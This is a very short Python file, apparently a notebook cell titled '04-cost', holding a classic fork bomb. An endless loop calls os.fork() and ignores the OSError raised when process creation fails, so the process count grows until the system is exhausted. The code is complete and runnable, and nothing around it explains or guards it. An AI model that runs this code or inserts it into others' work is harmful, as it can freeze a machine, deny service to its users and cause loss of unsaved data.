# notebook: 04-cost
# Starts processes that start processes, without end.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
